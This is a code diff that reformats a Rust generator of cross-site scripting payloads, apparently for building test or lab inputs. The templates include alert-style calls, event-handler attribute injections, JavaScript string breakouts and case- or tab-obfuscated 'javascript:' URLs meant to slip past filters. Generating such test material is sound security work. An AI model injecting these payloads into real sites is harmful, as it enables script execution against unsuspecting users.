@@ -20,8 +20,18 @@ impl Call {
             _ => dice.number(1000, 999_999).to_string(),
         };
         let forms = [
-            "alert({n})", "alert({n})", "alert({n})", "prompt({n})", "confirm({n})", "alert`{n}`", "window.alert({n})", "top.alert({n})",
-            "(alert)({n})", "self.confirm({n})", "[{n}].find(alert)", "print=alert,print({n})",
+            "alert({n})",
+            "alert({n})",
+            "alert({n})",
+            "prompt({n})",
+            "confirm({n})",
+            "alert`{n}`",
+            "window.alert({n})",
+            "top.alert({n})",
+            "(alert)({n})",
+            "self.confirm({n})",
+            "[{n}].find(alert)",
+            "print=alert,print({n})",
         ];
         let script = dice.pick(&forms).replace("{n}", &argument);
         Self { script, argument }
@@ -97,13 +107,21 @@ pub(crate) fn attribute_and_tag(dice: &mut Dice, quote: char, call: &str) -> Str
 
 /// A payload for an attribute without quotes.
 pub(crate) fn unquoted(dice: &mut Dice, call: &str) -> String {
-    let forms = ["x onfocus={c} autofocus", "1 onmouseover={c}", "a onclick={c}", "z onpointerenter={c} b", "0\tonclick={c}", "q/onclick={c}"];
+    let forms = [
+        "x onfocus={c} autofocus",
+        "1 onmouseover={c}",
+        "a onclick={c}",
+        "z onpointerenter={c} b",
+        "0\tonclick={c}",
+        "q/onclick={c}",
+    ];
     dice.pick(&forms).replace("{c}", call)
 }
 
 /// A payload that ends a string of JavaScript.
 pub(crate) fn string(dice: &mut Dice, quote: char, call: &str) -> String {
-    let forms = ["{q};{c}//", "{q}-{c}-{q}", "{q}+{c}+{q}", "{q});{c}//", "{q};{c};var z={q}", "{q}||{c}||{q}", "{q}\n;{c}//"];
+    let forms =
+        ["{q};{c}//", "{q}-{c}-{q}", "{q}+{c}+{q}", "{q});{c}//", "{q};{c};var z={q}", "{q}||{c}||{q}", "{q}\n;{c}//"];
     dice.pick(&forms[..6]).replace("{q}", &quote.to_string()).replace("{c}", call)
 }
 
@@ -116,8 +134,15 @@ pub(crate) fn argument(dice: &mut Dice, quote: char, call: &str) -> String {
 /// A `javascript:` URL.
 pub(crate) fn url(dice: &mut Dice, call: &str) -> String {
     let forms = [
-        "javascript:{c}", "javascript:{c}", "JavaScript:{c}", "javascript:{c}//", "jAvAsCrIpT:{c}", "javascript:void({c})", " javascript:{c}",
-        "java\tscript:{c}", "javascript://x%0A{c}",
+        "javascript:{c}",
+        "javascript:{c}",
+        "JavaScript:{c}",
+        "javascript:{c}//",
+        "jAvAsCrIpT:{c}",
+        "javascript:void({c})",
+        " javascript:{c}",
+        "java\tscript:{c}",
+        "javascript://x%0A{c}",
     ];
     dice.pick(&forms).replace("{c}", call)
 }
